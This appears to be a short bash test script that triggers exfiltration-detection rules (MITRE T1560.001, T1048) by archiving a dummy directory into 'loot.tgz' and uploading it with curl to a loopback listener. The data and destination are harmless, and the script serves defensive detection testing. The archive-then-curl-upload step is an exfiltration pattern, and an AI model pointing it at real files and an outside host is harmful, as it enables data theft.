#!/usr/bin/env bash
# rule: exfiltration-archive-then-transfer
# also: exfiltration-curl-wget-file-upload
# mitre: T1560.001, T1048
# tar packs a scratch directory, then curl uploads the archive to a loopback listener.
set -euo pipefail
source "$(dirname "$0")/../lib/sim.sh"
mkdir -p data && echo "records" > data/a.txt
tar -czf loot.tgz data
listen --http
port=$LISTEN_PORT
"$(tool curl)" -s --max-time 5 -T loot.tgz "http://127.0.0.1:$port/" > /dev/null
wait
